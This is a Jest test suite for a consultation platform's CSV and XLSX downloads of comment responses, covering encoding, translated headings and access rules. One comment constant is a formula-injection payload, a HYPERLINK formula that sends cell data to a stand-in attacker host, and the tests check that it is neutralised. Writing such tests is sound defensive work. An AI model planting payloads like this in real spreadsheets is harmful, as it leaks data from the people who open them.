import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Workbook } from 'exceljs';
import { ADD_COMMENT, anchorOn, commentsWorld, CommentsWorld } from './support/comments-world';
import { BOOT_TIMEOUT, startTestApp, TestApp } from './support/test-app';

/**
 * GET /exports/review-cycles/:id/responses.csv and .xlsx: the cycle's comment-response matrix as files a TWG opens in
 * a spreadsheet, with accents, quotes and line breaks intact and formulas neutralised; the same access as
 * ReviewCycle.commentResponses.
 */

/** RFC 4180, as spreadsheets write it: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endField();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += ch;
  }
  if (field || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

describe('comment-response downloads', () => {
  let t: TestApp;
  let w: CommentsWorld;
  let cycleId: string;
  let sectionId: string;
  const TEXT = 'Remittances — 9.8% of GDP — rose in 2023. Seasonal “circular” work grew. Old claim about returns.';
  const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
  const MULTILINE = 'Two points:\n1. the source, "LFS 2023";\n2. the definition, naïve or not.';

  const download = (path: string, token?: string, headers: Record<string, string> = {}) =>
    fetch(`${t.baseUrl}${path}`, { headers: { ...headers, ...(token ? { authorization: `Bearer ${token}` } : {}) } });

  beforeAll(async () => {
    t = await startTestApp();
    w = await commentsWorld(t);
    const made = await w.section(TEXT, 'Émigration & remittances');
    sectionId = made.sectionId;
    cycleId = await w.openCycle([sectionId], [w.orgs.civil.id, w.orgs.academia.id], 'Consultation: trends/remittances 2025');
    const add = async (who: Parameters<CommentsWorld['gql']>[0], input: Record<string, unknown>) => {
      const res = await w.gql(who, ADD_COMMENT, { input: { sectionId, revisionId: made.revisionId, ...input } });
      if (res.errors) throw new Error(JSON.stringify(res.errors));
      return res.data!['addComment'].id as string;
    };
    const withSuggestion = await add('contributor', {
      body: MULTILINE,
      anchor: anchorOn(TEXT, 'Remittances — 9.8% of GDP — rose in 2023.'),
      suggestion: 'Remittances recorded by the bank — 9.8% of GDP — rose in 2023.',
    });
    await add('contributorOut', { body: HOSTILE, anchor: anchorOn(TEXT, 'Old claim about returns.') });
    await add('contributor', { body: '@SUM(1+1) and -2 and +3' });
    // A focal point's comment: the ministry does not take part in the cycle, so it is not in the matrix.
    await add('focal', { body: 'Ministry note, not a consultation comment.' });
    await w.save(sectionId, TEXT.replace('Remittances — 9.8% of GDP — rose in 2023.', 'Remittances recorded by the bank — 9.8% of GDP — rose in 2023.').replace(' Old claim about returns.', ''), {
      appliedSuggestionIds: [withSuggestion],
    });
    const dispose = await w.gql('focal', `mutation($input: SetCommentDispositionInput!) { setCommentDisposition(input: $input) { id } }`, {
      input: { commentId: withSuggestion, disposition: 'ACCEPTED', reason: 'Taken as proposed; the source is “LFS”.' },
    });
    if (dispose.errors) throw new Error(JSON.stringify(dispose.errors));
  }, BOOT_TIMEOUT);
  afterAll(async () => t?.close());

  const HEADER = [
    'No.',
    'Section',
    'Organisation',
    'Author',
    'Passage',
    'Comment',
    'Suggested wording',
    'Suggestion outcome',
    'Disposition',
    'Reason',
    'Revision that took the suggestion',
    'Resolved',
  ];
  const expectedRows = () => [
    [
      '1',
      '1 Émigration & remittances',
      'Migrants’ Rights Network',
      'Zoë Dupré',
      // The applied wording replaced the passage: the anchor follows the new wording.
      'Remittances recorded by the bank — 9.8% of GDP — rose in 2023.',
      MULTILINE,
      'Remittances recorded by the bank — 9.8% of GDP — rose in 2023.',
      'Applied',
      'Accepted',
      'Taken as proposed; the source is “LFS”.',
      '2',
      'No',
    ],
    ['2', '1 Émigration & remittances', 'Centre for Migration Studies', expect.any(String), '(text removed) Old claim about returns.', `'${HOSTILE}`, '', '', '', '', '', 'No'],
    ['3', '1 Émigration & remittances', 'Migrants’ Rights Network', 'Zoë Dupré', '', "'@SUM(1+1) and -2 and +3", '', '', '', '', '', 'No'],
  ];

  it('writes a CSV with a BOM that parses back to the matrix, accents, quotes and line breaks intact, formulas neutralised', async () => {
    const res = await download(`/exports/review-cycles/${cycleId}/responses.csv`, w.tokens.coordinator);
    expect({ status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition') }).toEqual({
      status: 200,
      type: 'text/csv; charset=utf-8',
      disposition: 'attachment; filename="comment-responses-consultation-trends-remittances-2025.csv"',
    });
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(rows).toEqual([HEADER, ...expectedRows()]);
  });

  it('writes an XLSX that exceljs opens, with a bold frozen header and the same rows', async () => {
    const res = await download(`/exports/review-cycles/${cycleId}/responses.xlsx`, w.tokens.focal);
    expect({ status: res.status, disposition: res.headers.get('content-disposition') }).toEqual({
      status: 200,
      disposition: 'attachment; filename="comment-responses-consultation-trends-remittances-2025.xlsx"',
    });
    const workbook = new Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1).map((v) => (v === undefined || v === null ? '' : String(v)));
    expect({ header: values(1), bold: sheet.getRow(1).font?.bold, frozen: sheet.views[0] }).toEqual({
      header: HEADER,
      bold: true,
      frozen: expect.objectContaining({ state: 'frozen', ySplit: 1 }),
    });
    expect([values(2), values(3), values(4)]).toEqual(expectedRows());
    // Strings stay strings: no cell is a formula.
    const formulas: string[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => void (cell.formula ? formulas.push(cell.address) : null)));
    expect(formulas).toEqual([]);
  });

  it('writes the headings and its own words in the language asked for; comments, names and titles as written', async () => {
    const csv = await download(`/exports/review-cycles/${cycleId}/responses.csv?lang=fr`, w.tokens.coordinator);
    const rows = parseCsv(Buffer.from(await csv.arrayBuffer()).subarray(3).toString('utf8'));
    expect(rows[0]).toEqual([
      'N°', 'Section', 'Organisation', 'Auteur', 'Passage', 'Commentaire', 'Formulation proposée', 'Suite de la proposition', 'Suite donnée', 'Motif',
      'Révision ayant repris la proposition', 'Résolu',
    ]);
    expect(rows[1]!.slice(7, 9)).toEqual(['Appliquée', 'Accepté']);
    expect(rows[1]![11]).toBe('Non');
    expect(rows[1]![3]).toBe('Zoë Dupré');
    expect(rows[2]![4]).toBe('(texte supprimé) Old claim about returns.');
    // Arabic by Accept-Language: the sheet runs right to left.
    const xlsx = await download(`/exports/review-cycles/${cycleId}/responses.xlsx`, w.tokens.focal, { 'accept-language': 'ar' });
    const workbook = new Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('الردود على التعليقات');
    expect((sheet.getRow(1).values as unknown[]).slice(1, 4)).toEqual(['الرقم', 'القسم', 'المنظمة']);
    expect(sheet.views[0]).toMatchObject({ rightToLeft: true });
  });

  it('answers 401 without a session, 404 for an unknown or unreadable cycle, 403 to contributors and observers', async () => {
    const path = (id: string, ext = 'csv') => `/exports/review-cycles/${id}/responses.${ext}`;
    const statuses = {
      anonymous: (await download(path(cycleId))).status,
      unknown: (await download(path('00000000-0000-4000-8000-000000000000'), w.tokens.coordinator)).status,
      notAnId: (await download(path('nope'), w.tokens.coordinator)).status,
      contributor: (await download(path(cycleId), w.tokens.contributor)).status,
      contributorXlsx: (await download(path(cycleId, 'xlsx'), w.tokens.contributor)).status,
      observer: (await download(path(cycleId), w.tokens.observer)).status,
    };
    const outside = await w.openCycle([sectionId], [w.orgs.otherMinistry.id], 'Not theirs');
    const unreadable = (await download(path(outside), w.tokens.contributor)).status;
    expect({ ...statuses, unreadable }).toEqual({
      anonymous: 401,
      unknown: 404,
      notAnId: 404,
      contributor: 403,
      contributorXlsx: 403,
      observer: 403,
      unreadable: 404,
    });
  });
});
